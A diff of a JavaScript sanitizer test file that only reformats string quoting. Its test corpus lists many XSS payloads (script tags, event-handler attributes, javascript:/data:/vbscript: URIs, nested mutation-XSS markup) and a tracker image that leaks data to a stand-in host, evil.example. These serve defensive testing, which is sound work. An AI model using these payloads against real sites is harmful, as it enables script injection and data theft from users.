@@ -6,29 +6,29 @@ import { sanitize } from "./sanitize.js";
 
 const CORPUS = [
   "<script>window.__xss = 1</script>",
-  "<img src=x onerror=\"window.__xss=1\">",
-  "<svg onload=\"window.__xss=1\"><circle r=1 /></svg>",
+  '<img src=x onerror="window.__xss=1">',
+  '<svg onload="window.__xss=1"><circle r=1 /></svg>',
   "<svg><script>window.__xss=1</script></svg>",
-  "<iframe src=\"javascript:window.__xss=1\"></iframe>",
-  "<a href=\"javascript:window.__xss=1\">click</a>",
+  '<iframe src="javascript:window.__xss=1"></iframe>',
+  '<a href="javascript:window.__xss=1">click</a>',
   "[click](javascript:window.__xss=1)",
   "[click](JaVaScRiPt:window.__xss=1)",
   "[click](  javascript:window.__xss=1)",
   "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
   "[click](vbscript:msgbox)",
   "![x](javascript:window.__xss=1)",
-  "![x\" onerror=\"window.__xss=1](https://example.com/a.png)",
+  '![x" onerror="window.__xss=1](https://example.com/a.png)',
   "![tracker](https://evil.example/leak?d=secret)",
-  "<details open ontoggle=\"window.__xss=1\">",
+  '<details open ontoggle="window.__xss=1">',
   "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
-  "<a href=\"#\" onclick=\"window.__xss=1\">x</a>",
-  "[a](https://ok.example \"title\" onclick=alert(1))",
+  '<a href="#" onclick="window.__xss=1">x</a>',
+  '[a](https://ok.example "title" onclick=alert(1))',
   "<form action=javascript:alert(1)><button>x</button></form>",
   "$\\href{javascript:alert(1)}{x}$",
   "$$\\htmlClass{x}{y}\\url{javascript:alert(1)}$$",
   "```html\n<script>window.__xss=1</script>\n```",
   "<style>body{display:none}</style>",
-  "<object data=\"javascript:alert(1)\"></object>",
+  '<object data="javascript:alert(1)"></object>',
   "<<script>script>window.__xss=1<</script>/script>",
 ];
 
@@ -88,7 +88,9 @@ describe("sanitization", () => {
   });
 
   it("the sanitizer itself strips what markdown-it would never emit", () => {
-    const out = sanitize('<a href="javascript:alert(1)" onclick="x()">x</a><svg><foreignObject><script>1</script></foreignObject></svg><p style="color:red">ok</p>');
+    const out = sanitize(
+      '<a href="javascript:alert(1)" onclick="x()">x</a><svg><foreignObject><script>1</script></foreignObject></svg><p style="color:red">ok</p>',
+    );
     const el = document.createElement("div");
     el.innerHTML = out;
     assertSafe(el);
